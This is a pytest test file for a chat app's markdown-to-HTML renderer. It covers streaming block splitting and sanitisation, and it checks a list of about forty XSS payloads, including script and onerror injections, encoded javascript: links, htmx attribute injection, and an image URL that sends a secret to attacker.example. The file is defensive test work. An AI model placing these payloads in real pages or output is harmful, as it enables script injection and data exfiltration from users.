"""Model text -> safe HTML: formatting, streaming blocks, and a corpus of hostile inputs."""

from __future__ import annotations

import random
import re

import pytest

from conversations.growing import render_tail
from conversations.rendering import plain_text, render
from conversations.splitting import BlockSplitter

# Output properties that must hold for any input.
FORBIDDEN_TAGS = re.compile(
    r"<\s*(script|style|iframe|object|embed|form|input|textarea|select|svg|math|img|video|"
    r"audio|source|link|meta|base|frame|frameset|template|noscript)\b",
    re.I,
)
TAG = re.compile(r"<[a-zA-Z][^>]*>")  # real tags only: escaped text reads "&lt;"
ATTRIBUTE = re.compile(r'\s([^\s=>"]+)="([^"]*)"')
ALLOWED_ATTRIBUTES = {"href", "title", "class", "target", "rel", "start", "type", "aria-label"}


def assert_inert(html: str) -> None:
    assert not FORBIDDEN_TAGS.search(html), html
    for tag in TAG.findall(html):
        for name, value in ATTRIBUTE.findall(tag):
            # No on*, hx-*, data-*, id, name, style, src: only a known, harmless few.
            assert name.lower() in ALLOWED_ATTRIBUTES, tag
            if name == "href":
                assert re.match(r"^(https?://|mailto:)", value, re.I), tag
        if tag.startswith("<a "):
            assert 'rel="noopener noreferrer nofollow"' in tag
            assert 'target="_blank"' in tag


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object><embed src=x>",
    '<form action="https://evil.example"><input name=q></form>',
    '<a href="javascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](%6A%61%76%61script:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click]( javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[ref][x]",
    "<javascript:alert(1)>",
    '<div hx-get="/admin/" hx-trigger="load">boom</div>',
    '<div data-hx-post="/x" data-hx-trigger="load">boom</div>',
    '<p hx-swap-oob="true" id="composer-controls">owned</p>',
    '<span id="messages">collide</span><input name="csrfmiddlewaretoken">',
    '[x](https://ok.example "title" onclick=alert(1))',
    "![x](https://attacker.example/leak?q=SECRET)",
    "![x](data:image/png;base64,AAAA)",
    '<a href="https://ok.example" onmouseover="alert(1)">hover</a>',
    "<style>body{display:none}</style>",
    '<div style="position:fixed;inset:0">cover</div>',
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<!-- <script>alert(1)</script> -->",
    "<<script>script>alert(1)<</script>/script>",
    "\x00<script>alert(1)</script>",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_input_renders_inert(hostile: str) -> None:
    assert_inert(render(hostile))
    # And inside every construct a model might wrap it in.
    for wrapped in (f"- {hostile}", f"> {hostile}", f"**{hostile}**", f"# {hostile}"):
        assert_inert(render(wrapped))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_input_in_the_growing_block_renders_inert(hostile: str) -> None:
    # The growing block of a stream takes shortcuts for plain text and open fences.
    for tail in (hostile, f"{hostile} and more", f"```\n{hostile}\n", f"```{hostile}\ncode\n"):
        assert_inert(render_tail(tail))


def test_growing_plain_paragraph_renders_exactly_as_the_parser_does() -> None:
    rng = random.Random(7)
    pieces = ["word", "it's", '"quoted"', "end.", "2024", "-", "a-b", "  ", "\n", " \n", "\t"]
    for _ in range(5000):
        text = " ".join(rng.choice(pieces) for _ in range(rng.randint(1, 25)))
        assert render_tail(text) == render(text), text


def test_growing_code_block_is_escaped_and_highlighted_once_closed() -> None:
    open_fence = "```python\ndef f(x):\n    return x < 1\n"
    tail = render_tail(open_fence)
    assert "return x &lt; 1" in tail
    assert "tok-k" not in tail  # plain while it grows
    assert 'class="code-lang">python<' in tail
    assert "tok-k" in render(open_fence + "```\n")  # highlighted when whole


def test_markdown_images_become_plain_links_not_fetches() -> None:
    html = render("see ![chart](https://attacker.example/leak?q=SECRET)")
    assert "<img" not in html
    assert '<a class="image-link" href="https://attacker.example/leak?q=SECRET"' in html
    assert "Image: chart" in html


def test_links_open_in_a_new_tab_without_referrer() -> None:
    html = render("[docs](https://docs.example/page)")
    assert (
        '<a href="https://docs.example/page" target="_blank" rel="noopener noreferrer nofollow">'
        in html
    )


def test_commonmark_tables_strikethrough_and_highlighted_code() -> None:
    html = render(
        "# Title\n\n1. one\n2. two\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n~~old~~\n\n"
        "```python\ndef f():\n    return 1\n```"
    )
    assert "<h1>Title</h1>" in html
    assert "<ol>" in html
    assert '<th class="align-left">a</th>' in html
    assert '<td class="align-right">2</td>' in html
    assert "<s>old</s>" in html
    assert '<span class="code-lang">python</span>' in html
    assert '<button type="button" class="copy-button"' in html
    assert '<span class="tok-k">def</span>' in html
    assert "style=" not in html  # the CSP forbids inline styles


def test_unknown_languages_and_raw_html_stay_text() -> None:
    html = render("```nosuchlang\n<b>x</b>\n```\n\n<b>bold?</b>")
    assert "&lt;b&gt;x&lt;/b&gt;" in html
    assert "<b>" not in html
    assert '<span class="code-lang">nosuchlang</span>' in html


def test_half_written_constructs_render_sensibly() -> None:
    open_fence = render("Here:\n\n```python\nprint('hi')\nfor x in")
    assert '<pre class="highlight">' in open_fence
    assert "for" in open_fence
    half_list = render("Steps:\n\n1. first\n2. sec")
    assert "<li>sec</li>" in half_list
    half_table = render("| a | b |\n|---|")
    assert_inert(half_table)


def test_plain_text_of_rendered_html_is_for_announcements() -> None:
    assert plain_text(render("**Hello** _world_\n\n- one")) == "Hello world one"


def feed_all(text: str, step: int) -> tuple[list[str], str]:
    splitter = BlockSplitter()
    finished: list[str] = []
    tail = ""
    for i in range(0, len(text), step):
        done, tail = splitter.feed(text[i : i + step])
        if done:
            finished.append(done)
    return finished, tail


@pytest.mark.parametrize("step", [1, 3, 17, 1000])
def test_block_splitter_loses_nothing_and_keeps_fences_and_lists_whole(step: int) -> None:
    text = (
        "Intro.\n\n- a\n- b\n\n- c\n  continued\n\nNext para.\n\n"
        "```py\nx = 1\n\n\ny = 2\n```\nafter the fence\n\nlast words"
    )
    finished, tail = feed_all(text, step)
    assert "".join(finished) + tail == text
    expected = [
        "Intro.\n\n",
        "- a\n- b\n\n- c\n  continued\n\n",
        "Next para.\n\n",
        "```py\nx = 1\n\n\ny = 2\n```\n",
        "after the fence\n\n",
    ]
    assert "".join(finished) == "".join(expected)
    # Each finished piece ends where a block ends (one feed may finish two blocks).
    ends = {len("".join(expected[: i + 1])) for i in range(len(expected))}
    assert {len("".join(finished[: i + 1])) for i in range(len(finished))} <= ends
    # A blank line is only an end once the next line's first characters show that it does
    # not continue the block (here: "las", not indented, no list around).
    assert tail == "last words"


def test_a_blank_line_in_a_list_waits_for_the_next_line_to_tell() -> None:
    splitter = BlockSplitter()
    assert splitter.feed("- a\n\n- b") == ("", "- a\n\n- b")  # the list goes on
    assert splitter.feed("\n\n  b continued") == ("", "- a\n\n- b\n\n  b continued")
    assert splitter.feed("\n\nAfter") == ("- a\n\n- b\n\n  b continued\n\n", "After")


def test_block_splitter_keeps_only_the_growing_block() -> None:
    splitter = BlockSplitter()
    for i in range(2000):
        splitter.feed(f"Paragraph {i} has a few words.\n\n")
    assert splitter.window == "Paragraph 1999 has a few words.\n\n"
    splitter.feed("growing\n")
    assert splitter.window == "growing\n"


def test_announced_words_are_escaped_once() -> None:
    from conversations.fragments import announce_html

    words = plain_text(render("Is a < b & c? **Yes**."))
    assert words == "Is a < b & c? Yes."
    assert "a &lt; b &amp; c?" in announce_html(words)
